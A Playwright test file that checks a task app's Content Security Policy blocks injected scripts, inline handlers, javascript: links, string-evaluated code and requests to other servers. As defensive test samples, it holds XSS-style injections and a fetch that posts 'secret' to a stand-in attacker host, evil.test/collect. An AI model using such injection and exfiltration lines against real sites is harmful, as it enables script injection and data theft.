import type { Page } from "@playwright/test";

import { holdMessages, message } from "./support/messages.ts";
import { expect, logIn, test, titles } from "./support/test.ts";

const PAGES = [
  "/",
  "/login",
  "/signup",
  "/forgot-password",
  "/reset-password",
  "/tasks",
  "/account",
  "/nothing/here",
];

test("the policy of every page lets nothing in but what the build knows", async ({ request }) => {
  for (const path of PAGES) {
    const answer = await request.get(path, { headers: { Accept: "text/html" } });
    const policy = directivesOf(answer.headers()["content-security-policy"] ?? "");
    for (const name of ["default-src", "base-uri", "form-action", "frame-ancestors"]) {
      expect(policy.get(name), `${name} of ${path}`).toEqual(["'none'"]);
    }
    expect(policy.get("connect-src"), path).toEqual(["'self'"]);
    expect(policy.get("script-src"), path).not.toContain("data:");
    // Neither 'unsafe-inline' nor 'unsafe-eval', and no other server.
    const known = /^('none'|'self'|data:|'sha256-[\w+/]{43}=')$/;
    for (const source of [...policy.values()].flat()) expect(source, path).toMatch(known);
  }
});

/** What a policy allows, by directive. */
function directivesOf(policy: string): ReadonlyMap<string, readonly string[]> {
  return new Map(
    policy.split("; ").map((directive) => {
      const [name = "", ...sources] = directive.split(" ");
      return [name, sources];
    }),
  );
}

/** Collects what the policy of the page forbids, from now on: the directives. */
async function breaches(page: Page): Promise<() => Promise<string[]>> {
  const heard = await page.evaluateHandle(() => {
    const directives: string[] = [];
    document.addEventListener("securitypolicyviolation", (breach) => {
      directives.push(breach.effectiveDirective);
    });
    return directives;
  });
  return () => heard.jsonValue();
}

test.describe("on the page of the tasks", () => {
  test.use({ complaints: /Content Security Policy|Refused to/ });

  test.beforeEach(async ({ page, ada }) => {
    await logIn(page, ada);
  });

  test("a script that got into it does not run", async ({ page }) => {
    const forbidden = await breaches(page);
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.name = 'taken over'";
      document.body.append(script);
    });
    await expect.poll(forbidden).toEqual(["script-src-elem"]);
    expect(await page.evaluate(() => window.name)).toBe("");
  });

  test("a handler that got into it does not run", async ({ page }) => {
    const forbidden = await breaches(page);
    await page.evaluate(() => {
      document.body.innerHTML = `<button onclick="window.name = 'taken over'">Win</button>
        <img src="data:image/png," onerror="window.name = 'taken over'">
        <a href="javascript:window.name = 'taken over'">Go</a>`;
    });
    await page.getByRole("button", { name: "Win" }).click();
    await page.getByRole("link", { name: "Go" }).click();
    await expect.poll(async () => (await forbidden()).length).toBe(3);
    expect(new Set(await forbidden())).toEqual(new Set(["script-src-attr", "script-src-elem"]));
    expect(await page.evaluate(() => window.name)).toBe("");
  });

  test("text is not run as a script", async ({ page }) => {
    const forbidden = await breaches(page);
    await page.evaluate(() => {
      setTimeout("window.name = 'taken over'");
    });
    await expect.poll(forbidden).toEqual(["script-src"]);
    expect(await page.evaluate(() => window.name)).toBe("");
  });

  test("nothing is told to another server, and nothing comes from one", async ({ page }) => {
    const forbidden = await breaches(page);
    await page.evaluate(async () => {
      const image = document.createElement("img");
      image.src = "https://evil.test/pixel.png";
      const script = document.createElement("script");
      script.src = "https://evil.test/script.js";
      document.body.append(image, script);
      await fetch("https://evil.test/collect", { method: "POST", body: "secret" }).catch(() => {});
    });
    await expect
      .poll(async () => (await forbidden()).sort())
      .toEqual(["connect-src", "img-src", "script-src-elem"]);
  });
});

test("all that people do stays with the one server", async ({ page, context, server, ada }) => {
  const origins = new Set<string>();
  context.on("request", (request) => origins.add(new URL(request.url()).origin));
  for (const path of PAGES.slice(0, -1)) {
    await page.goto(path);
    await expect(page.getByRole("heading").first()).toBeVisible();
  }
  await page.goto("/signup");
  await page.getByRole("textbox", { name: "Password" }).fill("correct horse battery staple");
  await expect(page.getByText(/^This password is/)).toBeVisible();

  await logIn(page, ada);
  await page.getByLabel("New task").fill("Buy milk");
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: /^Order/ }).click();
  await page.getByRole("menuitemradio", { name: "Title, A to Z" }).click();
  await page.getByRole("button", { name: "Keyboard shortcuts" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Close" }).click();
  await holdMessages(page);
  await page.getByRole("button", { name: "Delete “Buy milk”" }).click();
  await message(page, "“Buy milk” is deleted.").getByRole("button", { name: "Undo" }).click();
  await expect(titles(page)).toHaveText(["Buy milk"]);
  await page.getByRole("button", { name: /^Account of/ }).click();
  await page.getByRole("menuitem", { name: "Account" }).click();
  await expect(page).toHaveURL(/\/account$/);
  expect([...origins]).toEqual([server.url]);
});
